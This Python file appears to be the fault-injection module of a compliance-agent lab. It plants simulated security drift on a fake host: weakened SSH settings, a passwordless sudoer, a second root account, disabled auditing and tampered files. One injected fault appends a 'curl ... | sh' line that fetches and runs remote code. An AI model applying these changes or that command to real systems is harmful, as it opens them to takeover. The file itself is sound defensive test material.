"""Synthetic drift of who may get in: logins over SSH, accounts, sessions, services, ports, TLS, audit, files (see drift.py)."""

from __future__ import annotations

from datetime import timedelta

from compliance_agent.lab.fault import register
from compliance_agent.lab.host import FakeHost
from compliance_agent.lab.programs import accounts, apt, auditd, sessions, sockets, sshd, tls

CRON = "cron.service"
SCRIPT = "/usr/local/sbin/clinic-sync"


# -- ssh_access


def _ssh_setting(host: FakeHost, old: str, new: str) -> None:
    """Change the drop-in of the SSH daemon and have the daemon read it."""
    text = host.files[sshd.DROP_IN].content.decode()
    host.put(sshd.DROP_IN, text.replace(old, new))
    sshd.read_files(host)
    host.unit(sshd.UNIT).changed_at = host.now()


@register("ssh_access", "password_login", "now", "somebody turned password logins on again")
def _ssh_passwords_on(host: FakeHost) -> None:
    _ssh_setting(host, "PasswordAuthentication no", "PasswordAuthentication yes")


@register("ssh_access", "root_login", "now", "root may log in directly")
def _ssh_root_login(host: FakeHost) -> None:
    _ssh_setting(host, "PermitRootLogin no", "PermitRootLogin yes")


@register("ssh_access", "weak_ciphers", "now", "an old cipher was allowed for an old device")
def _ssh_old_cipher(host: FakeHost) -> None:
    _ssh_setting(host, "Ciphers ", f"Ciphers {host.rng.choice(('aes128-cbc', 'aes256-cbc', '3des-cbc'))},")


@register("ssh_access", "host_key_exposed", "now", "a private key of the SSH daemon can be read by everybody")
def _ssh_host_key_open(host: FakeHost) -> None:
    host.files[host.rng.choice(sshd.HOST_KEYS)].mode = 0o644


@register("ssh_access", "reload_needed", "now", "the SSH daemon still goes by settings that were taken back since")
def _ssh_not_reloaded(host: FakeHost) -> None:
    _ssh_setting(host, "PasswordAuthentication no", "PasswordAuthentication yes")
    host.unit(sshd.UNIT).changed_at = host.now() - timedelta(hours=1)
    text = host.files[sshd.DROP_IN].content.decode().replace("PasswordAuthentication yes", "PasswordAuthentication no")
    host.put(sshd.DROP_IN, text)


@register("ssh_access", "match_relaxes", "person", "password logins were let in for one network")
def _ssh_match_block(host: FakeHost) -> None:
    text = "Match Address 10.0.0.0/8\n    PasswordAuthentication yes\n"
    host.put("/etc/ssh/sshd_config.d/50-branch.conf", text)
    host.unit(sshd.UNIT).changed_at = host.now()


# -- accounts


@register("accounts", "empty_passwords", "window", "an account was left without a password")
def _account_without_password(host: FakeHost) -> None:
    accounts.replace(host, "/etc/shadow", f"frontdesk:{accounts.HASH}:", "frontdesk::")


@register("accounts", "unlisted_admins", "person", "somebody was given the right to become root")
def _account_new_sudoer(host: FakeHost) -> None:
    host.put("/etc/sudoers.d/temp", "frontdesk ALL=(ALL) NOPASSWD: ALL\n", mode=0o440)


@register("accounts", "duplicate_uids", "person", "two accounts share one user id")
def _account_shared_uid(host: FakeHost) -> None:
    accounts.add(host, "/etc/passwd", "sys2:x:33:33::/var/www:/usr/sbin/nologin")
    accounts.add(host, "/etc/shadow", f"sys2:!:{accounts.DAY}:0:99999:7:::")


@register("accounts", "other_roots", "person", "a second account with root's user id was made")
def _account_second_root(host: FakeHost) -> None:
    accounts.add(host, "/etc/passwd", "toor:x:0:0::/root:/bin/bash")
    accounts.add(host, "/etc/shadow", f"toor:{accounts.HASH}:{accounts.DAY}:0:99999:7:::")


@register("accounts", "unlisted_people", "person", "an account was made for somebody who is on no list")
def _account_unlisted(host: FakeHost) -> None:
    uid = host.rng.randint(1002, 1900)
    accounts.add(host, "/etc/passwd", f"temp{uid}:x:{uid}:{uid}::/home/temp{uid}:/bin/bash")
    accounts.add(host, "/etc/shadow", f"temp{uid}:{accounts.HASH}:{accounts.DAY}:0:99999:7:::")


# -- auto_logoff


@register("auto_logoff", "shell_not_ended", "now", "somebody took away the timeout of shells because it was in the way")
def _shell_timeout_gone(host: FakeHost) -> None:
    host.delete(sessions.SHELL_FILE)


@register("auto_logoff", "shell_changeable", "now", "everybody may switch the timeout of their shell off")
def _shell_timeout_changeable(host: FakeHost) -> None:
    host.put(sessions.SHELL_FILE, "TMOUT=600\nexport TMOUT\n")


@register("auto_logoff", "session_not_ended", "now", "idle sessions stay open for a working day")
def _idle_sessions_stay(host: FakeHost) -> None:
    host.put(sessions.LOGIND_FILE, f"[Login]\nStopIdleSessionSec={host.rng.randint(8, 12)}h\n")
    sessions.read_files(host)


# -- services


@register("services", "service_down", "now", "the scheduler of nightly jobs is stopped")
def _cron_stopped(host: FakeHost) -> None:
    host.unit(CRON).active = False


@register("services", "service_not_enabled", "now", "the scheduler of nightly jobs will not come back with the machine")
def _cron_disabled(host: FakeHost) -> None:
    host.unit(CRON).enabled = "disabled"


@register("services", "forbidden_running", "window", "somebody installed telnet for an old device")
def _telnet_running(host: FakeHost) -> None:
    host.service(host.rng.choice(("telnet.socket", "tftp.socket")))


@register("services", "forbidden_enabled", "now", "file transfer in the clear will start with the machine")
def _ftp_enabled(host: FakeHost) -> None:
    host.service("vsftpd.service", active=False)


# -- listening_ports


@register("listening_ports", "unexpected_ports", "person", "a service that nobody ordered waits for the network")
def _port_opened(host: FakeHost) -> None:
    port, unit = host.rng.choice(((111, "rpcbind.service"), (445, "smbd.service"), (5900, "x11vnc.service")))
    host.part(sockets.Sockets).others.append(sockets.Open("tcp", "::", port, unit=unit))


@register("listening_ports", "people_listen", "person", "a person shares files from a program of their own")
def _person_shares_files(host: FakeHost) -> None:
    port = host.rng.randint(8000, 8999)
    host.part(sockets.Sockets).others.append(sockets.Open("tcp", "192.168.1.10", port, 1001))


# -- transmission


@register("transmission", "key_open", "now", "the private key of the web service can be read by everybody")
def _tls_key_open(host: FakeHost) -> None:
    host.files[tls.KEY].mode = 0o644


@register("transmission", "out_of_date", "person", "the certificate of the web service is over")
def _certificate_over(host: FakeHost) -> None:
    tls.renew(host, days=-host.rng.randint(1, 20))
    tls.renew(host, days=60.5, read=False)


@register("transmission", "ends_soon", "person", "the certificate was renewed, and its service never read it")
def _certificate_not_read(host: FakeHost) -> None:
    tls.renew(host, days=host.rng.randint(2, 9) + 0.5)
    tls.renew(host, days=60.5, read=False)


@register("transmission", "old_tls", "person", "TLS 1.1 was allowed for an old device")
def _old_tls_allowed(host: FakeHost) -> None:
    host.part(tls.Service).oldest = "tls1_1"


# -- auditd


@register("auditd", "daemon_down", "now", "the audit daemon is stopped")
def _auditd_stopped(host: FakeHost) -> None:
    host.unit(auditd.UNIT).active = False


@register("auditd", "recording_off", "now", "somebody switched the kernel's recording off")
def _auditing_off(host: FakeHost) -> None:
    host.part(auditd.Kernel).enabled = 0


@register("auditd", "rules_not_loaded", "now", "somebody deleted the audit rules to be left in peace")
def _audit_rules_deleted(host: FakeHost) -> None:
    host.part(auditd.Kernel).rules.clear()


@register("auditd", "rules_absent", "person", "an audit rule was taken out of the files as well")
def _audit_rule_removed(host: FakeHost) -> None:
    accounts.replace(host, auditd.RULES_FILE, "-w /etc/sudoers -p wa -k scope\n", "")
    auditd.make_file(host)
    auditd.load(host)


@register("auditd", "records_lost", "person", "the kernel lost records while the daemon was too slow")
def _audit_records_lost(host: FakeHost) -> None:
    host.part(auditd.Kernel).lost = host.rng.randint(1, 5000)


# -- file_integrity


@register("file_integrity", "file_changed", "person", "a program that root runs was changed by one line")
def _program_changed(host: FakeHost) -> None:
    host.append(SCRIPT, "curl -s 192.0.2.7 | sh\n")


@register("file_integrity", "file_unlisted", "person", "somebody left a program of their own beside those of root")
def _program_left(host: FakeHost) -> None:
    host.put(f"/usr/local/sbin/try{host.rng.randint(1, 99)}", "#!/bin/sh\n", mode=0o755)


@register("file_integrity", "package_file_changed", "person", "a program of a package was overwritten")
def _package_file_changed(host: FakeHost) -> None:
    host.part(apt.Packages).altered.append("??5??????   /usr/bin/ssh")
